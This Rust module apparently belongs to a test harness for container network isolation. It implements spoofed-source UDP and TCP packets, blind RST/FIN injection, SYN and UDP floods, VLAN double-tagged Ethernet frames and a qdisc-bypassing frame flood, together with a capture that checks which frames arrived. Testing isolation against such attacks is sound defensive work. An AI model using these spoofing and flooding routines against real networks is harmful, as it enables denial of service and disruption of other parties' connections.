//! What an attacker in a pod sends with CAP_NET_RAW: UDP datagrams with any IPv4 source
//! (a raw `IPPROTO_RAW` socket, whose header the sender writes), and whole Ethernet
//! frames of its choosing (an `AF_PACKET` socket on one interface); and a capture of
//! every frame a namespace sees, to tell whether any of them arrived.
//!
//! The `AF_PACKET` address is written by hand (`libc::sockaddr_ll`): socket2 and nix
//! have no safe constructor for a link-layer address to send to.

use std::{
    io,
    mem::{MaybeUninit, size_of, zeroed},
    net::{Ipv4Addr, SocketAddrV4},
    os::fd::AsRawFd,
    sync::atomic::Ordering,
    time::{Duration, Instant},
};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use super::{Background, run_in};
use crate::netns::Netns;

/// `ETH_P_ALL`: a packet socket of this protocol sees every frame.
const ETH_P_ALL: u16 = 0x0003;
/// The longest a capture runs.
const CAPTURE_LIMIT: Duration = Duration::from_secs(30);

/// Sends one UDP datagram from `netns` claiming `source`, to `to`, routed as the
/// namespace routes `to`.
pub fn send_udp_as(
    netns: &Netns,
    source: Ipv4Addr,
    source_port: u16,
    to: SocketAddrV4,
    payload: &[u8],
) -> io::Result<()> {
    send_raw(netns, to, udp_packet(source, source_port, to, payload))
}

/// Sends `packet`, an IPv4 packet with its header, from `netns` to `to` through a raw
/// `IPPROTO_RAW` socket: the kernel fills in the header checksum, nothing else.
fn send_raw(netns: &Netns, to: SocketAddrV4, packet: Vec<u8>) -> io::Result<()> {
    run_in(netns, move || {
        let socket = Socket::new(
            Domain::IPV4,
            Type::RAW,
            Some(Protocol::from(libc::IPPROTO_RAW)),
        )?;
        socket.send_to(&packet, &SockAddr::from(to)).map(drop)
    })
}

/// An IPv4 header (no options, Don't Fragment, TTL 64, checksum left at 0) for
/// `payload_len` bytes of `proto` from `source` to `to`.
fn ipv4_header(source: Ipv4Addr, to: Ipv4Addr, proto: u8, payload_len: usize) -> Vec<u8> {
    let total = u16::try_from(20 + payload_len).expect("a small packet");
    let mut header = vec![0x45, 0];
    header.extend(total.to_be_bytes());
    header.extend([0, 0, 0x40, 0, 64, proto, 0, 0]);
    header.extend(source.octets());
    header.extend(to.octets());
    header
}

/// Sends one TCP segment (no payload) from `netns` claiming `source`, to `to`, with
/// `flags`, sequence number `seq` and acknowledgement number `ack`: a blind RST or FIN
/// from a host that knows a connection's addresses and ports but not its sequence
/// numbers.
pub fn send_tcp_as(
    netns: &Netns,
    source: SocketAddrV4,
    to: SocketAddrV4,
    flags: u8,
    (seq, ack): (u32, u32),
) -> io::Result<()> {
    send_raw(netns, to, tcp_packet(source, to, flags, (seq, ack)))
}

/// Sends a TCP SYN from `netns` to `to` claiming `source` from each port of `ports`,
/// through one raw socket: a flood of new connections from as many sockets, as a host
/// (or a pod) with CAP_NET_RAW sends to fill a table of connections. Paced (a pause
/// every 512 segments) so that the receiving veth's backlog takes every one. How many
/// went out.
pub fn syn_flood(
    netns: &Netns,
    source: Ipv4Addr,
    ports: std::ops::RangeInclusive<u16>,
    to: SocketAddrV4,
) -> io::Result<usize> {
    flood(netns, ports, to, move |port| {
        let from = SocketAddrV4::new(source, port);
        tcp_packet(from, to, 0x02, (u32::from(port) << 8, 0))
    })
}

/// As [`syn_flood`], a UDP datagram (8 bytes of payload) from each port of `ports`.
pub fn udp_flood(
    netns: &Netns,
    source: Ipv4Addr,
    ports: std::ops::RangeInclusive<u16>,
    to: SocketAddrV4,
) -> io::Result<usize> {
    flood(netns, ports, to, move |port| {
        udp_packet(source, port, to, b"flooding")
    })
}

/// Sends `packet(port)` for each port of `ports` to `to` from `netns` through one raw
/// socket, paced as [`syn_flood`] says. How many went out.
fn flood(
    netns: &Netns,
    ports: std::ops::RangeInclusive<u16>,
    to: SocketAddrV4,
    packet: impl Fn(u16) -> Vec<u8> + Send + 'static,
) -> io::Result<usize> {
    run_in(netns, move || {
        let socket = Socket::new(
            Domain::IPV4,
            Type::RAW,
            Some(Protocol::from(libc::IPPROTO_RAW)),
        )?;
        let address = SockAddr::from(to);
        let mut sent = 0;
        for port in ports {
            socket.send_to(&packet(port), &address)?;
            sent += 1;
            if sent % 512 == 0 {
                std::thread::sleep(Duration::from_millis(2));
            }
        }
        Ok(sent)
    })
}

/// An IPv4 packet of one TCP segment without payload (see [`send_tcp_as`]), its TCP
/// checksum computed, the IPv4 header's left to the kernel.
fn tcp_packet(
    source: SocketAddrV4,
    to: SocketAddrV4,
    flags: u8,
    (seq, ack): (u32, u32),
) -> Vec<u8> {
    let mut segment = [source.port().to_be_bytes(), to.port().to_be_bytes()].concat();
    segment.extend(seq.to_be_bytes());
    segment.extend(ack.to_be_bytes());
    segment.extend([0x50, flags, 0xfa, 0xf0, 0, 0, 0, 0]);
    let mut pseudo = [source.ip().octets(), to.ip().octets()].concat();
    pseudo.extend([0, 6, 0, 20]);
    pseudo.extend(&segment);
    let checksum = crate::frames::internet_checksum(&pseudo);
    segment[16..18].copy_from_slice(&checksum.to_be_bytes());
    let mut packet = ipv4_header(*source.ip(), *to.ip(), 6, segment.len());
    packet.extend(segment);
    packet
}

/// A UDP datagram from `source` to `to` in an Ethernet frame from `src_mac` to `dst_mac`,
/// with a VLAN tag when `tag` says so: (`0x8100` for 802.1Q or `0x88a8` for 802.1ad,
/// the VLAN id). The IPv4 header's checksum is computed, as nothing on the way fills it.
pub fn udp_frame(
    dst_mac: [u8; 6],
    src_mac: [u8; 6],
    tag: Option<(u16, u16)>,
    source: SocketAddrV4,
    to: SocketAddrV4,
    payload: &[u8],
) -> Vec<u8> {
    let mut packet = udp_packet(*source.ip(), source.port(), to, payload);
    let checksum = crate::frames::internet_checksum(&packet[..20]);
    packet[10..12].copy_from_slice(&checksum.to_be_bytes());
    let mut frame = Vec::new();
    frame.extend(dst_mac);
    frame.extend(src_mac);
    if let Some((tag_type, vlan_id)) = tag {
        frame.extend(tag_type.to_be_bytes());
        frame.extend(vlan_id.to_be_bytes());
    }
    frame.extend(0x0800u16.to_be_bytes());
    frame.extend(packet);
    frame
}

/// Every frame seen in a namespace (on any of its interfaces, either way) while it runs.
pub struct Capture(Background<Vec<Vec<u8>>>);

impl Capture {
    pub fn start(netns: &Netns) -> Self {
        let socket = run_in(netns, || {
            Socket::new(
                Domain::PACKET,
                Type::RAW,
                Some(Protocol::from(i32::from(ETH_P_ALL.to_be()))),
            )
        })
        .unwrap_or_else(|error| panic!("cannot open a packet socket: {error}"));
        socket
            .set_read_timeout(Some(Duration::from_millis(50)))
            .expect("a read timeout");
        Self(Background::start(netns, move |stop| {
            let started = Instant::now();
            let mut frames = Vec::new();
            let mut buffer = [MaybeUninit::<u8>::uninit(); 4096];
            while !stop.load(Ordering::Relaxed) && started.elapsed() < CAPTURE_LIMIT {
                if let Ok(n) = socket.recv(&mut buffer) {
                    // SAFETY: the kernel wrote the first `n` bytes.
                    frames.push(
                        buffer[..n]
                            .iter()
                            .map(|b| unsafe { b.assume_init() })
                            .collect(),
                    );
                }
            }
            frames
        }))
    }

    /// Stops the capture; how many frames carried `marker` somewhere.
    pub fn count(mut self, marker: &[u8]) -> usize {
        self.0
            .finish()
            .unwrap_or_default()
            .iter()
            .filter(|frame| frame.windows(marker.len()).any(|window| window == marker))
            .count()
    }
}

/// An IPv4 header (checksum left to the kernel, which fills it for `IPPROTO_RAW`) and a
/// UDP header without a checksum (zero: none, as IPv4 allows).
fn udp_packet(source: Ipv4Addr, source_port: u16, to: SocketAddrV4, payload: &[u8]) -> Vec<u8> {
    let udp_len = u16::try_from(8 + payload.len()).expect("a small payload");
    let mut packet = ipv4_header(source, *to.ip(), 17, usize::from(udp_len));
    packet.extend(source_port.to_be_bytes());
    packet.extend(to.port().to_be_bytes());
    packet.extend(udp_len.to_be_bytes());
    packet.extend([0, 0]);
    packet.extend(payload);
    packet
}

/// Sends `frame` (from its Ethernet header on) out of `ifname` in `netns`.
pub fn send_frame(netns: &Netns, ifname: &str, frame: &[u8]) -> io::Result<()> {
    let (ifname, frame) = (ifname.to_owned(), frame.to_vec());
    run_in(netns, move || {
        let socket = Socket::new(Domain::PACKET, Type::RAW, None)?;
        let address = link_address(&ifname, &frame)?;
        if send_to_link(&socket, &address, &frame) < 0 {
            return Err(io::Error::last_os_error());
        }
        Ok(())
    })
}

/// The link-layer address a packet socket sends `frame` to out of `ifname`: the
/// interface, and the frame's destination MAC.
fn link_address(ifname: &str, frame: &[u8]) -> io::Result<libc::sockaddr_ll> {
    let index = nix::net::if_::if_nametoindex(ifname).map_err(io::Error::from)?;
    // SAFETY: sockaddr_ll is plain data; all-zero is a valid start.
    let mut address: libc::sockaddr_ll = unsafe { zeroed() };
    address.sll_family = libc::AF_PACKET as u16;
    address.sll_ifindex = i32::try_from(index).map_err(io::Error::other)?;
    address.sll_halen = 6;
    address.sll_addr[..6].copy_from_slice(&frame[..6]);
    Ok(address)
}

/// `sendto` of `frame` to `address` on a packet socket: the bytes sent, or -1.
fn send_to_link(socket: &Socket, address: &libc::sockaddr_ll, frame: &[u8]) -> isize {
    // SAFETY: a valid socket, and an address of the size given that outlives the call.
    unsafe {
        libc::sendto(
            socket.as_raw_fd(),
            frame.as_ptr().cast(),
            frame.len(),
            0,
            std::ptr::from_ref(address).cast(),
            size_of::<libc::sockaddr_ll>() as libc::socklen_t,
        )
    }
}

/// Sends `frame` out of `ifname` in `netns` over and over for `duration`, from a packet
/// socket that skips the interface's qdisc (`PACKET_QDISC_BYPASS`) as a pod with
/// CAP_NET_RAW can; returns how many were sent.
pub fn flood_bypassing_qdisc(
    netns: &Netns,
    ifname: &str,
    frame: &[u8],
    duration: Duration,
) -> io::Result<u64> {
    /// `SOL_PACKET`'s `PACKET_QDISC_BYPASS`.
    const PACKET_QDISC_BYPASS: libc::c_int = 20;
    let (ifname, frame) = (ifname.to_owned(), frame.to_vec());
    run_in(netns, move || {
        let socket = Socket::new(Domain::PACKET, Type::RAW, None)?;
        let on: libc::c_int = 1;
        // SAFETY: a valid socket and an int option of the size given.
        let set = unsafe {
            libc::setsockopt(
                socket.as_raw_fd(),
                libc::SOL_PACKET,
                PACKET_QDISC_BYPASS,
                std::ptr::from_ref(&on).cast(),
                size_of::<libc::c_int>() as libc::socklen_t,
            )
        };
        if set != 0 {
            return Err(io::Error::last_os_error());
        }
        let address = link_address(&ifname, &frame)?;
        let started = Instant::now();
        let mut sent = 0;
        while started.elapsed() < duration {
            if send_to_link(&socket, &address, &frame) > 0 {
                sent += 1;
            }
        }
        Ok(sent)
    })
}
